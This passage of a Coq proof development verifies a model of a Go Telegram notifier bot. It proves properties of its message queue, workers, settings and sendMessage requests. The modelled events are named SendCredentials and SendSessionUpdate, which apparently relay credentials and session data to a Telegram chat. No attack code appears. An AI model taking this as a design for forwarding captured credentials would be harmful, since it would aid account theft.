  answerFree s = answerFree t -> run E1 acts s = Some s1 ->
  exists t1, run E2 acts t = Some t1 /\ answerFree s1 = answerFree t1.
Proof.
  revert s t. induction acts as [|a rest IH]; intros s t Hst; cbn [run].
  - intros [= <-]. now exists t.
  - destruct (exec E1 a s) as [s'|] eqn:Hexec; [|discriminate]. intros Hrun.
    destruct (exec_answerFree a s t s' Hst Hexec) as (t' & -> & Hst').
    now apply (IH s' t').
Qed.

End Answers.

(** X18. The answers of the server never come back into the bot.  A run
    that is possible with one server is possible with any other, and ends
    with the same bot (queue, workers, stop channel, configuration), the same
    messages handed to [sendMessage], the same warnings and the same files:
    a message whose delivery failed is neither retried nor put back, and a
    failure stops no worker. *)
Theorem answers_do_not_feed_back (E1 E2 : Env) (acts : list Action) (s s1 : State)
    (Hrun : run E1 acts s = Some s1) :
  exists s2,
    run E2 acts s = Some s2 /\
    bot s2 = bot s1 /\
    sendCalls (world s2) = sendCalls (world s1) /\
    warnings (world s2) = warnings (world s1) /\
    files (world s2) = files (world s1).
Proof.
  destruct (run_answerFree E1 E2 acts s s s1 eq_refl Hrun) as (s2 & Hrun2 & Heq).
  exists s2. split; [exact Hrun2|].
  apply answerFree_eq in Heq. destruct Heq as (Hb & Hf & Hc & Hw). auto.
Qed.

Lemma answers_do_not_feed_back_witness :
  exists s2,
    run refusingEnv sampleRun initial = Some s2 /\
    bot s2 = bot sampleAfter /\
    sendCalls (world s2) = sendCalls (world sampleAfter) /\
    warnings (world s2) = warnings (world sampleAfter) /\
    files (world s2) = files (world sampleAfter).
Proof.
  apply (answers_do_not_feed_back quietEnv refusingEnv sampleRun initial sampleAfter).
  reflexivity.
Defined.

Section Delivery.

Variable E : Env.

Lemma run_worker_off (acts : list Action) (s s' : State) :
  Forall isWorkerStep acts -> IsEnabled (bot s) = false -> run E acts s = Some s' ->
  posted (world s') = posted (world s) /\ IsEnabled (bot s') = false.
Proof.
  intros Hacts. revert s. induction Hacts as [|a rest Ha _ IH]; intros s Hoff; cbn [run].
  - intros [= <-]. auto.
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate]. intros Hrun.
    assert (Hns : ~ isSetConfig a) by (destruct a; cbn in *; tauto).
    pose proof (exec_config E a s s1 Hns Hexec) as Hcfg.
    destruct (IH s1 (eq_trans Hcfg Hoff) Hrun) as [Hp Hoff']. split; [|exact Hoff'].
    rewrite Hp. destruct a; cbn in Ha; try contradiction. cbn [exec] in Hexec.
    rewrite messageWorker_effect in Hexec.
    destruct (workerEffect i pickStop (bot s)) as [[t' [msg|]]|]; [| |discriminate];
      injection Hexec as <-; cbn [world]; [|reflexivity].
    apply handle_posted_off. now apply notConfigured_true.
Qed.

Lemma run_worker_on (acts : list Action) (s s' : State) :
  Forall isWorkerStep acts -> IsEnabled (bot s) = true ->
  (forall m, json_Marshal E m = None) ->
  http_NewRequest E (sendMessageURL (bot s)) = None ->
  run E acts s = Some s' ->
  exists ms,
    sendCalls (world s') = (sendCalls (world s) ++ ms)%list /\
    posted (world s') = (posted (world s) ++ map (messageRequest (bot s)) ms)%list /\
    pending (bot s) = (ms ++ pending (bot s'))%list.
Proof.
  intros Hacts. revert s. induction Hacts as [|a rest Ha _ IH];
    intros s Hon Hm Hr; cbn [run].
  - intros [= <-]. exists []. cbn. now rewrite !app_nil_r.
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate]. intros Hrun.
    assert (Hns : ~ isSetConfig a) by (destruct a; cbn in *; tauto).
    pose proof (exec_config E a s s1 Hns Hexec) as Hcfg.
    destruct a; cbn in Ha; try contradiction. cbn [exec] in Hexec.
    rewrite messageWorker_effect in Hexec.
    destruct (workerEffect i pickStop (bot s)) as [[t' taken]|] eqn:Heff; [|discriminate].
    destruct (workerEffect_config _ _ _ _ _ Heff) as (Htok & _).
    destruct (workerEffect_queue _ _ _ _ _ Heff) as (_ & Hq).
    assert (Hurl : sendMessageURL t' = sendMessageURL (bot s))
      by (unfold sendMessageURL; now rewrite Htok).
    assert (Hreq : messageRequest t' = messageRequest (bot s))
      by (unfold messageRequest; now rewrite Hurl).
    assert (Hbot : bot s1 = t') by (destruct taken; now injection Hexec as <-).
    destruct (IH s1) as (ms & Hc & Hp & Hpend);
      [congruence | exact Hm | now rewrite Hbot, Hurl | exact Hrun |].
    rewrite Hbot, Hreq in Hp. rewrite Hbot in Hpend. clear Hbot Hcfg.
    destruct taken as [msg|]; injection Hexec as <-; cbn [world bot] in *.
    + exists (omap id [msg] ++ ms)%list.
      rewrite Hc, Hp, handle_sendCalls,
        (handle_posted_on E (bot s) msg (world s) (notConfigured_false _ Hon) Hm Hr).
      rewrite map_app, <- !app_assoc. repeat split.
      unfold pending in *. rewrite Hq. cbn [omap]. rewrite <- Hpend.
      now destruct msg.
    + exists ms. repeat split; auto. unfold pending in *. now rewrite <- Hq.
Qed.

End Delivery.

(** X19. Messages taken from the queue while the bot is not enabled are
    thrown away: in any run of worker steps on a bot for which [IsEnabled]
    is false, no request is made, although the messages leave the queue and
    count as handed to [sendMessage]. *)
Theorem not_enabled_worker_discards (E : Env) (acts : list Action) (s s' : State)
    (Hoff : IsEnabled (bot s) = false)
    (Hacts : Forall isWorkerStep acts)
    (Hrun : run E acts s = Some s') :
  posted (world s') = posted (world s) /\
  (sendCalls (world s') ++ pending (bot s'))%list
  = (sendCalls (world s) ++ pending (bot s))%list.
Proof.
  split.
  - exact (proj1 (run_worker_off E acts s s' Hacts Hoff Hrun)).
  - exact (run_known E acts s s' (isWorkerStep_not_emission acts Hacts) Hrun).
Qed.

(** X20. On an enabled bot with a single worker, when encoding and the
    building of requests do not fail, the worker makes exactly one request
    for each message it takes, in queue order and whatever the server
    answers: the requests made in a run of steps of that worker are the posts
    of the messages taken, and these are the head of the queue. *)
Theorem one_request_per_message (E : Env) (acts : list Action) (s s' : State)
    (Hlone : loneWorker (bot s))
    (Hon : IsEnabled (bot s) = true)
    (Hencode : forall m, json_Marshal E m = None)
    (Hbuild : http_NewRequest E (sendMessageURL (bot s)) = None)
    (Hacts : Forall isWorkerStep acts)
    (Hrun : run E acts s = Some s') :
  exists ms,
    pending (bot s) = (ms ++ pending (bot s'))%list /\
    sendCalls (world s') = (sendCalls (world s) ++ ms)%list /\
    posted (world s') =
    (posted (world s) ++
     map (fun m => mkRequest ("https://api.telegram.org/bot" ++ botToken (bot s)
                              ++ "/sendMessage") "application/json" (JSON m)) ms)%list.
Proof.
  destruct (run_worker_on E acts s s' Hacts Hon Hencode Hbuild Hrun)
    as (ms & Hc & Hp & Hq).
  exists ms. auto.
Qed.

Lemma not_enabled_worker_discards_witness :
  posted (world mutedAfter) = posted (world mutedState) /\
  (sendCalls (world mutedAfter) ++ pending (bot mutedAfter))%list
  = (sendCalls (world mutedState) ++ pending (bot mutedState))%list.
Proof.
  apply (not_enabled_worker_discards quietEnv [AWorker 0 false] mutedState mutedAfter).
  - reflexivity.
  - constructor; [exact I | constructor].
  - reflexivity.
Defined.

Lemma one_request_per_message_witness :
  exists ms,
    pending (bot busyState) = (ms ++ pending (bot busyAfter))%list /\
    sendCalls (world busyAfter) = (sendCalls (world busyState) ++ ms)%list /\
    posted (world busyAfter) =
    (posted (world busyState) ++
     map (fun m => mkRequest ("https://api.telegram.org/bot" ++ botToken (bot busyState)
                              ++ "/sendMessage") "application/json" (JSON m)) ms)%list.
Proof.
  apply (one_request_per_message refusingEnv [AWorker 0 false] busyState busyAfter);
    try reflexivity.
  - unfold loneWorker. cbn. lia.
  - constructor; [exact I | constructor].
Defined.

(** ** The usual path of a message *)

Section Path.

Variable E : Env.

Lemma run_worker_drains (pick : nat -> bool) (n : nat) :
  forall (from : nat) (s : State),
    workers (bot s) = [AtSelect] -> stopChan (bot s) = false ->
    len (msgQueue (bot s)) = n ->
    exists s',
      run E (map (fun k => AWorker 0 (pick k)) (seq from n)) s = Some s' /\
      workers (bot s') = [AtSelect] /\ stopChan (bot s') = false /\
      buf (msgQueue (bot s')) = [] /\ known s' = known s.
Proof.
  induction n as [|n IH]; intros from s Hws Hstop Hlen.
  - exists s. cbn. repeat split; auto.
    unfold len in Hlen. now destruct (buf (msgQueue (bot s))).
  - cbn [seq map run exec]. unfold messageWorker. rewrite Hws, Hstop.
    cbn [lookup list_lookup]. unfold recv, len in *.
    destruct (buf (msgQueue (bot s))) as [|msg q] eqn:Hbuf; [discriminate|].
    assert (Hq : length q = n) by (cbn in Hlen; lia).
    destruct (IH (S from) (mkState (setQueue (mkChan (cap (msgQueue (bot s))) q) (bot s))
                             (handle E (bot s) msg (world s))) Hws Hstop Hq)
      as (s' & Hrun & Hws' & Hstop' & Hbuf' & Hknown).
    exists s'. repeat split; auto. rewrite Hknown. unfold known, pending.
    cbn. rewrite handle_sendCalls, Hbuf, <- app_assoc. now destruct msg.
Qed.

Lemma offer_wellFormed (msg : TelegramMessage) (s : State) :
  ParseMode msg = "Markdown" -> ChatID msg <> "" ->
  queueWellFormed s -> queueWellFormed (offer msg s).
Proof.
  intros Hp Hc Hq. unfold queueWellFormed, offer, send.
  destruct (len (msgQueue (bot s)) <? cap (msgQueue (bot s)))%nat; [|exact Hq].
  cbn. apply Forall_app. split; [exact Hq|].
  constructor; [|constructor]. now exists msg.
Qed.

Lemma exec_wellFormed (a : Action) (s s' : State) :
  queueWellFormed s -> exec E a s = Some s' -> queueWellFormed s'.
Proof.
  intros Hq. destruct a; cbn [exec].
  - intros [= <-]. unfold SendCredentials.
    destruct (notConfigured (bot s)) eqn:Hcfg; [exact Hq|].
    apply offer_wellFormed; [reflexivity | | exact Hq]. cbn.
    rewrite notConfigured_IsEnabled in Hcfg. apply negb_false_iff in Hcfg.
    apply IsEnabled_fields in Hcfg. tauto.
  - intros [= <-]. unfold SendSessionUpdate.
    destruct (notConfigured (bot s)) eqn:Hcfg; [exact Hq|].
    apply offer_wellFormed; [reflexivity | | exact Hq]. cbn.
    rewrite notConfigured_IsEnabled in Hcfg. apply negb_false_iff in Hcfg.
    apply IsEnabled_fields in Hcfg. tauto.
  - now intros [= <-].
  - intros [= <-]. unfold queueWellFormed, Start. cbn.
    now destruct (notConfigured (bot s)).
  - destruct (stopChan (bot s)); [discriminate|]. now intros [= <-].
  - rewrite messageWorker_effect.
    destruct (workerEffect i pickStop (bot s)) as [[t' taken]|] eqn:Heff; [|discriminate].
    destruct (workerEffect_queue _ _ _ _ _ Heff) as (_ & Hbuf).
    assert (Hq' : Forall wellFormed (buf (msgQueue t'))).
    { unfold queueWellFormed in Hq. destruct taken as [msg|].
      - rewrite Hbuf in Hq. now inversion Hq.
      - now rewrite Hbuf. }
    destruct taken; now intros [= <-].
Qed.

End Path.

(** X21. The usual path.  With one started worker and the stop channel
    open, as many worker steps as messages are waiting hand all of them to
    [sendMessage] in queue order and empty the queue; the worker is then
    back at its [select], where it is blocked until the next emission or
    the stop signal. *)
Theorem worker_delivers_queue (E : Env) (s : State)
    (Hws : workers (bot s) = [AtSelect]) (Hopen : stopChan (bot s) = false) :
  forall pick, exists s',
    run E (workerOnly pick (len (msgQueue (bot s)))) s = Some s' /\
    buf (msgQueue (bot s')) = [] /\
    sendCalls (world s') = (sendCalls (world s) ++ pending (bot s))%list /\
    workers (bot s') = [AtSelect] /\
    forall pickStop, exec E (AWorker 0 pickStop) s' = None.
Proof.
  intros pick.
  destruct (run_worker_drains E pick _ 0 s Hws Hopen eq_refl)
    as (s' & Hrun & Hws' & Hstop' & Hbuf' & Hknown).
  exists s'. split; [exact Hrun|]. split; [exact Hbuf'|]. split; [|split; [exact Hws'|]].
  - unfold known, pending in Hknown. rewrite Hbuf' in Hknown. cbn in Hknown.
    now rewrite app_nil_r in Hknown.
  - intros pickStop. cbn [exec]. unfold messageWorker, recv.
    now rewrite Hws', Hstop', Hbuf'.
Qed.

Lemma worker_delivers_queue_witness :
  exists s',
    run quietEnv (workerOnly (fun _ => false) (len (msgQueue (bot busyState)))) busyState
      = Some s' /\
    buf (msgQueue (bot s')) = [] /\
    sendCalls (world s') = (sendCalls (world busyState) ++ pending (bot busyState))%list /\
    workers (bot s') = [AtSelect] /\
    forall pickStop, exec quietEnv (AWorker 0 pickStop) s' = None.
Proof.
  apply (worker_delivers_queue quietEnv busyState); reflexivity.
Defined.

(** X22. The queue of a bot made by [NewTelegramBot] never holds [nil]:
    after any run, every element of the queue is a message with parse mode
    Markdown and a chat id that is not empty, so the test [msg != nil] of
    the worker never fails. *)
Theorem queue_never_nil (E : Env) (acts : list Action) (s : State)
    (Hrun : run E acts initial = Some s) :
  forall m, In m (buf (msgQueue (bot s))) ->
    exists msg, m = Some msg /\ ParseMode msg = "Markdown" /\ ChatID msg <> "".
Proof.
  assert (Hq : queueWellFormed s).
  { assert (Hinit : queueWellFormed initial) by constructor.
    revert Hrun Hinit. generalize initial. induction acts as [|a rest IH];
      intros s0; cbn [run].
    - now intros [= <-].
    - destruct (exec E a s0) as [s1|] eqn:Hexec; [|discriminate].
      intros Hrun Hs0. apply (IH s1 Hrun). now apply (exec_wellFormed E a s0). }
  intros m Hin. unfold queueWellFormed in Hq.
  rewrite List.Forall_forall in Hq. exact (Hq m Hin).
Qed.

Lemma queue_never_nil_witness :
  exists msg,
    Some sampleMessage = Some msg /\ ParseMode msg = "Markdown" /\ ChatID msg <> "".
Proof.
  apply (queue_never_nil quietEnv [ASetConfig "123:abc" "42" true; sampleEvent]
           (offer sampleMessage
              (mkState (SetConfig "123:abc" "42" true NewTelegramBot) emptyWorld))).
  - reflexivity.
  - left. reflexivity.
Defined.

(** X23. [GetConfig] gives back what [SetConfig] stored, [SetConfig] with
    the values of [GetConfig] changes nothing, and [SetConfig] touches only
    the three settings: the queue, the stop channel and the workers stay,
    so messages already waiting are kept and a worker already running goes
    on under the new settings.  [IsEnabled] is the stored switch together
    with a token and a chat id that are not empty. *)
Theorem SetConfig_GetConfig (t : TelegramBot) (token chat : string) (on : bool) :
  GetConfig (SetConfig token chat on t) = mkConfig token chat on /\
  SetConfig (BotToken (GetConfig t)) (ChatID' (GetConfig t)) (Enabled (GetConfig t)) t = t /\
  msgQueue (SetConfig token chat on t) = msgQueue t /\
  stopChan (SetConfig token chat on t) = stopChan t /\
  workers (SetConfig token chat on t) = workers t /\
  (IsEnabled (SetConfig token chat on t) = true <->
   on = true /\ token <> "" /\ chat <> "").
Proof.
  split; [reflexivity|]. split; [now destruct t|].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  apply IsEnabled_fields.
Qed.

(** X24. A [Start] that comes before the configuration is lost.  On a new
    bot [Start] starts no worker, and configuring the bot afterwards does not
    start one: whatever is emitted then, in a run without another [Start]
    nothing is handed to [sendMessage] and no request is made. *)
Theorem Start_before_SetConfig (E : Env) (token chat : string) (on : bool)
    (acts : list Action) (s' : State)
    (Hacts : Forall (fun a => ~ isStart a) acts)
    (Hrun : run E (AStart :: ASetConfig token chat on :: acts) initial = Some s') :
  workers (bot s') = [] /\
  sendCalls (world s') = [] /\
  posted (world s') = [].
Proof.
  cbn [run exec] in Hrun.
  apply (run_no_worker E acts _ s') in Hrun; [|reflexivity | exact Hacts].
  destruct Hrun as (Hws & _ & Hc & Hp). auto.
Qed.

Lemma Start_before_SetConfig_witness :
  workers (bot (offer sampleMessage
                  (mkState (SetConfig "123:abc" "42" true NewTelegramBot) emptyWorld))) = [] /\
  sendCalls (world (offer sampleMessage
                      (mkState (SetConfig "123:abc" "42" true NewTelegramBot) emptyWorld)))
    = [] /\
  posted (world (offer sampleMessage
                   (mkState (SetConfig "123:abc" "42" true NewTelegramBot) emptyWorld)))
    = [].
Proof.
  apply (Start_before_SetConfig quietEnv "123:abc" "42" true [sampleEvent]).
  - constructor; [cbn; tauto | constructor].
  - reflexivity.
Defined.

(** X25. A message is addressed when it is emitted and posted when it is
    taken.  If the settings are changed while a message waits, the worker
    posts it to the address of the new token, with the chat id that was set
    when the event was emitted. *)
Theorem reconfigured_in_flight (E : Env) (a : Action) (s : State) (msg : TelegramMessage)
    (token chat : string) (pickStop : bool)
    (Hon : IsEnabled (bot s) = true)
    (Hmsg : eventMessage a (bot s) = Some msg)
    (Hempty : buf (msgQueue (bot s)) = [])
    (Hroom : (0 < cap (msgQueue (bot s)))%nat)
    (Hws : workers (bot s) = [AtSelect])
    (Hopen : stopChan (bot s) = false)
    (Htoken : token <> "") (Hchat : chat <> "")
    (Hencode : json_Marshal E msg = None)
    (Hbuild : http_NewRequest E ("https://api.telegram.org/bot" ++ token ++ "/sendMessage")
              = None) :
  exists s',
    run E [a; ASetConfig token chat true; AWorker 0 pickStop] s = Some s' /\
    ChatID msg = chatID (bot s) /\
    posted (world s') =
    (posted (world s) ++
     [mkRequest ("https://api.telegram.org/bot" ++ token ++ "/sendMessage")
        "application/json" (JSON msg)])%list /\
    buf (msgQueue (bot s')) = [].
Proof.
  assert (Hchatid : ChatID msg = chatID (bot s))
    by (destruct a; cbn in Hmsg; try discriminate; now injection Hmsg as <-).
  set (t2 := SetConfig token chat true
               (setQueue (mkChan (cap (msgQueue (bot s))) [Some msg]) (bot s))).
  assert (Hcfg : notConfigured t2 = false).
  { unfold notConfigured, t2. cbn.
    destruct (String.eqb_spec token "") as [|_]; [contradiction|].
    now destruct (String.eqb_spec chat "") as [|_]. }
  assert (Hstep : messageWorker E 0 pickStop (mkState t2 (world s)) =
                  Some (mkState (setQueue (mkChan (cap (msgQueue (bot s))) []) t2)
                          (handle E t2 (Some msg) (world s)))).
  { unfold messageWorker, recv, t2. cbn. now rewrite Hws, Hopen. }
  exists (mkState (setQueue (mkChan (cap (msgQueue (bot s))) []) t2)
            (handle E t2 (Some msg) (world s))).
  split; [|split; [exact Hchatid|split; [|reflexivity]]].
  - cbn [run]. rewrite (exec_emission E a s msg Hon Hmsg).
    rewrite offer_free by (unfold len; rewrite Hempty; exact Hroom).
    rewrite Hempty. cbn [exec bot world app]. fold t2. now rewrite Hstep.
  - cbn [world handle]. unfold sendMessage. rewrite Hcfg.
    replace (botToken t2) with token by reflexivity.
    rewrite Hencode, Hbuild. unfold doRequest. cbn [posted logCall].
    destruct (client_Do E _ _) as [err|code]; [reflexivity|].
    now destruct (code =? StatusOK)%Z.
Qed.

Lemma reconfigured_in_flight_witness :
  exists s',
    run quietEnv [sampleEvent; ASetConfig "456:def" "7" true; AWorker 0 false]
      (mkState (sampleBot [] [AtSelect]) emptyWorld) = Some s' /\
    ChatID sampleMessage = chatID (bot (mkState (sampleBot [] [AtSelect]) emptyWorld)) /\
    posted (world s') =
    (posted (world (mkState (sampleBot [] [AtSelect]) emptyWorld)) ++
     [mkRequest ("https://api.telegram.org/bot" ++ "456:def" ++ "/sendMessage")
        "application/json" (JSON sampleMessage)])%list /\
    buf (msgQueue (bot s')) = [].
Proof.
  apply (reconfigured_in_flight quietEnv sampleEvent
           (mkState (sampleBot [] [AtSelect]) emptyWorld) sampleMessage "456:def" "7" false);
    try reflexivity; try discriminate.
  cbn. unfold queueCapacity. lia.
Defined.
